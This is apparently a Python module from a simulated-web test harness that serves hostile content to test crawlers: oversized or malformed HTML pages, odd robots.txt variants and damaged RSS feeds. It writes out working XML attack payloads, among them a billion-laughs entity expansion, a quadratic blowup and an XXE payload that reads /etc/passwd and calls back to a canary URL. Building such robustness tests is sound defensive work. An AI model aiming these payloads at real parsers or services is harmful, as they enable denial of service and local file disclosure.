"""Documents that hurt their readers: heavy pages, odd robots.txt files, damaged feeds. Made only when asked for."""

from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from http import HTTPStatus
from itertools import chain, repeat
from typing import Annotated, Literal

from pydantic import Field

from headwater.simweb.message import Page, Request
from headwater.simweb.mischief.stage import Mischief, OtherPage, Scene, Steps, streamed
from headwater.simweb.world.templates.guises import GUISES_AT, GuiseName

_PER_CHUNK = 10_000

Heavy = Literal["nested", "attributes", "one_line", "table", "long_word", "base64", "plaintext", "open_comment"]


@dataclass(frozen=True, slots=True)
class HeavyPage(Mischief):
    """HTML that kills naive parsers, made of `count` pieces (elements, attributes, cells, or bytes)."""

    shape: Heavy = "nested"
    count: Annotated[int, Field(gt=0, le=100_000_000)] = 1_000_000

    def play(self, scene: Scene) -> Steps:
        before, piece, after = _SHAPES[self.shape]
        body = chain((b"<!doctype html><title>Heavy</title>" + before,), _many(piece, self.count), (after,))
        return streamed(scene, (("Content-Type", "text/html; charset=utf-8"),), body)


_SHAPES: dict[str, tuple[bytes, bytes, bytes]] = {
    "nested": (b"", b"<div>", b"deep"),
    "attributes": (b"<p", b" a%d=1", b">wide</p>"),
    "one_line": (b"<p>", b"x", b"</p>"),
    "table": (b"<table><tr>", b"<td>1", b"</table>"),
    "long_word": (b"<article><h1>Word</h1><p>", b"w", b"</p></article>"),
    "base64": (b'<img src="data:image/png;base64,', b"A", b'"><p>seen</p>'),
    "plaintext": (b"<plaintext>", b"<p>", b"</plaintext>"),
    "open_comment": (b"<p>before</p><!-- ", b"<p>", b""),
}


def _many(piece: bytes, count: int) -> Iterable[bytes]:
    if b"%d" in piece:  # numbered, because parsers drop attributes that repeat
        starts = range(0, count, _PER_CHUNK)
        return (b"".join(piece % n for n in range(at, min(at + _PER_CHUNK, count))) for at in starts)
    whole, rest = divmod(count, _PER_CHUNK)
    return chain(repeat(piece * _PER_CHUNK, whole), (piece * rest,) if rest else ())


@dataclass(frozen=True, slots=True)
class OddRobots(Mischief):
    """A robots.txt that forbids /members/ in a form a reader may trip over."""

    form: Literal["huge", "html", "bom", "broken_bom", "utf16", "nul", "cr_only", "long_line"] = "huge"

    def play(self, scene: Scene) -> Steps:
        kind = "text/html" if self.form == "html" else "text/plain"
        return streamed(scene, (("Content-Type", kind),), _ROBOTS[self.form]())


_RULES = b"User-agent: *\nDisallow: /members/\n"
_ROBOTS: dict[str, Callable[[], Iterable[bytes]]] = {
    "huge": lambda: chain((_RULES,), repeat(b"Disallow: /archive/\n" * 2500, 1000)),
    "html": lambda: (b"<!doctype html><title>Welcome</title><p>User-agent: *<br>Disallow: /</p>",),
    "bom": lambda: (b"\xef\xbb\xbf" + _RULES,),
    "broken_bom": lambda: (b"\xef\xbb" + _RULES,),
    "utf16": lambda: (_RULES.decode().encode("utf-16"),),
    "nul": lambda: (_RULES.replace(b"\n", b"\0\n"),),
    "cr_only": lambda: (_RULES.replace(b"\n", b"\r"),),
    "long_line": lambda: (b"# " + b"x" * 20_000 + b"\n" + _RULES,),
}


@dataclass(frozen=True, slots=True)
class FeedDamage(OtherPage):
    """The feed, damaged in place where there is something to damage, replaced by an attack otherwise."""

    how: Literal[
        "truncated",
        "bare_ampersand",
        "wrong_charset",
        "html",
        "empty",
        "billion_laughs",
        "quadratic",
        "xxe",
        "deep",
    ] = "truncated"

    def page(self, scene: Scene) -> Page:
        page = replace(scene.page, body=_DAMAGES[self.how](scene.page.body, scene.request))
        return replace(page, content_type="text/html; charset=utf-8") if self.how == "html" else page


def _truncated(body: bytes, request: Request) -> bytes:
    """Cut inside the first tag after the middle."""
    return body[: body.find(b"<", len(body) // 2) + 2]


def _in_first_title(body: bytes, insert: bytes) -> bytes:
    return body.replace(b"</title>", insert + b"</title>", 1)


def _wrong_charset(body: bytes, request: Request) -> bytes:
    return _in_first_title(body.decode("utf-8", "replace").encode("iso-8859-1", "replace"), b" caf\xe9")


def _doctype(declarations: str, text: str) -> bytes:
    head = f'<?xml version="1.0"?><!DOCTYPE rss [{declarations}]>'
    return f'{head}<rss version="2.0"><channel><title>{text}</title></channel></rss>'.encode()


def _billion_laughs(body: bytes, request: Request) -> bytes:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _doctype('<!ENTITY l0 "lol">' + steps, "&l9;")


def _quadratic(body: bytes, request: Request) -> bytes:
    return _doctype(f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 5_000)


def _xxe(body: bytes, request: Request) -> bytes:
    """Reads a local file and calls back: a request for /xxe-canary in the visit log means it worked."""
    ours = f"http://{request.host}/xxe-canary"
    entities = f'<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY call SYSTEM "{ours}">'
    return _doctype(f'{entities}<!ENTITY % dtd SYSTEM "{ours}?dtd">%dtd;', "&file;&call;")


def _deep(body: bytes, request: Request) -> bytes:
    return b'<rss version="2.0"><channel>' + b"<item>" * 200_000 + b"</item>" * 200_000 + b"</channel></rss>"


_DAMAGES: dict[str, Callable[[bytes, Request], bytes]] = {
    "truncated": _truncated,
    "bare_ampersand": lambda body, request: _in_first_title(body, b" & Sons &nbsp; R&D"),
    "wrong_charset": _wrong_charset,
    "html": lambda body, request: b"<!doctype html><title>Subscribe</title><p>Our feed has moved to the app.</p>",
    "empty": lambda body, request: b"",
    "billion_laughs": _billion_laughs,
    "quadratic": _quadratic,
    "xxe": _xxe,
    "deep": _deep,
}


@dataclass(frozen=True, slots=True)
class Disguise(OtherPage):
    """Articles of a news site in a guise, at their own addresses, once `after` requests were answered as they should.

    With `renamed`, `stripped` or `moved` it is a relaunch of the site. What is no article stays as it is.
    """

    guise: GuiseName = "renamed"
    after: Annotated[int, Field(ge=0)] = 0

    def page(self, scene: Scene) -> Page:
        if scene.nth < self.after:
            return scene.page
        place = f"{GUISES_AT}{self.guise}"
        found = scene.at(place + scene.request.path)
        if found.status != HTTPStatus.OK:
            return scene.page
        return replace(found, body=found.body.replace(f"{place}/".encode(), b"/"))


KINDS = (HeavyPage, OddRobots, FeedDamage, Disguise)
